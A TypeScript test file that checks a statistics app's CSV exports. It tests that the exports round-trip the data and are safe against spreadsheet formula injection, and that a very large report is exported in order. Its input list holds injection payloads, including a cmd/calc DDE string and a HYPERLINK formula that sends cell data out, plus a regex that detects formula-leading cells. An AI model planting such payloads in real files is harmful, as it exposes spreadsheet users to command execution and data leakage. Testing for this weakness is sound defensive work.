import { expect, test } from 'vitest';
import { reports } from '../../server/areas/listening/statistics/report-registry.ts';
import { columns } from '../../server/areas/listening/statistics/columns.ts';
import { readStatistics } from '../../server/areas/listening/statistics/read-statistics.ts';
import { system } from '../../server/kernel/actor.ts';
import { globalId } from '../graphql/calls.ts';
import { reportedProject, type ReportedProject } from '../support/reported-project.ts';
import { useServer } from '../support/server.ts';
import { readStrictCsv, type CsvField } from '../support/strict-csv.ts';

const server = useServer();

/** What breaks files, and what spreadsheets would run. */
const wicked = [
  '=HYPERLINK("https://example.com/?"&A1;"Click")',
  "+1+cmd|'/C calc'!A0",
  '-2+3',
  '@SUM(1+1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '＝1+1',
  "'=1",
  '"',
  '""; "a"\r\n=1;',
  'a;b,c\td',
  ' before and after ',
  'Ünïcode 🎧 \u202e mark\ufeff',
];
/** As many of them as a list may have, from one on. */
const some = (from: number, count = wicked.length): string[] =>
  Array.from({ length: count }, (_, number) => wicked[(from + number) % wicked.length]!);

const names = {
  projects: some(0, 4),
  titles: wicked,
  authors: some(3),
  labels: wicked,
  playlists: some(2, 3),
  source: 'https://example.com/"feed";=1',
  episodes: some(6),
  apps: [...wicked, ''],
  devices: [...some(5), ''],
  countries: ['DE', 'FR', ''],
  providers: [...wicked, ''],
  voices: some(0).map((voice, number) => [wicked[(number + 4) % wicked.length]!, voice] as const),
};

/** What begins a cell that no spreadsheet takes for text. */
const runs = /^[=+\-@\t\r\n＝＋－＠]/;
/** Number format in a file. */
const number = /^(?:-?\d+(?:\.\d+)?)?$/;

let made: ReportedProject;
let token: string;
test('every CSV file of every report is valid, safe in spreadsheets, and equals the report', async () => {
  made = await reportedProject(server.app, server.make, names);
  token = await server.signIn(
    await server.app.db.prisma.user.findUniqueOrThrow({ where: { email: made.analyst } }),
  );
  const seen = new Set<string>();
  for (const report of reports) {
    const { name } = report;
    const files = await Promise.all([ofScreen(name), ofRest(name), ofExport(name)]);
    const { rows } = await readStatistics(server.app, system, { projectId: made.project, report: name });
    expect(rows.length, name).toBeGreaterThan(0);
    for (const file of files) {
      const [header, ...records] = readStrictCsv(file);
      expect(header, name).toEqual(report.columns.map((text) => ({ text })));
      expect(records, name).toHaveLength(rows.length);
      for (const [at, record] of records.entries())
        for (const [place, field] of record.entries()) {
          const column = report.columns[place]!;
          expect(valueOf(field), `${name}, row ${at}, ${column}`).toEqual(rows[at]![column] ?? null);
          if ('text' in field) seen.add(valueOf(field) as string);
          expect(['text', 'day'].includes(columns[column].unit) || 'bare' in field).toBe(true);
        }
    }
  }
  // All of it came through.
  expect(wicked.filter((one) => !seen.has(one))).toEqual([]);
});

test('the file of a very large report contains each row once, in order, and groups articles with few plays', async () => {
  const { app, make } = server;
  const house = await make.organization();
  const analyst = await make.member(house.id, 'maintainer');
  const { id: projectId } = await make.project({ organizationId: house.id, ownerId: analyst.id });
  const count = 20_030;
  // Plays from 1 up: the first four are pages with few plays.
  await app.db.pool.query(
    `INSERT INTO "Article" ("projectId", "title", "text", "labels") SELECT $1, 'Title ' || n, '', '{}' FROM generate_series(1, $2::int) n`,
    [projectId, count],
  );
  await app.db.pool.query(
    `INSERT INTO "ListeningHour" ("projectId", "hour", "articleId", "views", "listens")
     SELECT $1, date_trunc('hour', now()), a."id", 100000, row_number() OVER (ORDER BY a."id") FROM "Article" a WHERE a."projectId" = $1`,
    [projectId],
  );
  // As PostgreSQL does soon itself where so many rows are new.
  await app.db.pool.query('ANALYZE "Article", "ListeningHour"');
  const { rows, whole } = await readStatistics(app, system, { projectId, report: 'Articles' });
  expect([rows.length, whole?.count]).toEqual([20_000, count - 3]);
  token = await server.signIn(analyst);
  const response = await fetch(`${server.url}/export/${projectId}/reports/Articles.csv`, {
    headers: { authorization: `Bearer ${token}` },
  });
  const [, ...records] = readStrictCsv(await response.bytes());
  const titles = records.map(([title]) => ('text' in title! ? title.text : ''));
  const expected = Array.from({ length: count - 4 }, (_, index) => `Title ${count - index}`);
  expect(titles).toEqual([...expected, '']);
  expect(titles.slice(0, 20_000)).toEqual(rows.map((row) => row.article));
  // 1 + 2 + 3 + 4 plays.
  expect(records.at(-1)!.map((field) => ('bare' in field ? field.bare : field.text))).toContain('10');
});

/** Returns the original value of an escaped field. */
function valueOf(field: CsvField): string | number | null {
  if ('bare' in field) {
    expect(field.bare).toMatch(number);
    return field.bare === '' ? null : Number(field.bare);
  }
  expect(field.text).not.toMatch(runs);
  return /^'+[=+\-@\t\r\n＝＋－＠]/.test(field.text) ? field.text.slice(1) : field.text;
}

/** As the page offers it to be saved. */
async function ofScreen(report: string): Promise<Uint8Array> {
  const { data } = await server.graphql(
    'query ($id: ID!, $report: String!) { project(id: $id) { statistics(report: $report) { csv } } }',
    { id: globalId('Project', made.project), report },
    token,
  );
  return Buffer.from(data!['project'].statistics.csv as string);
}

const bytesOf = async (path: string, options: RequestInit = {}): Promise<Uint8Array> => {
  const response = await fetch(server.url + path, {
    ...options,
    headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
  });
  expect(response.status).toBe(200);
  expect(response.headers.get('content-type')).toMatch(/^text\/csv; charset=utf-8/);
  return response.bytes();
};
const ofRest = (report: string) =>
  bytesOf(`/api/stats/${made.project}/${report}`, { method: 'POST', body: '{"format":"csv"}' });
const ofExport = (report: string) => bytesOf(`/export/${made.project}/reports/${report}.csv`);
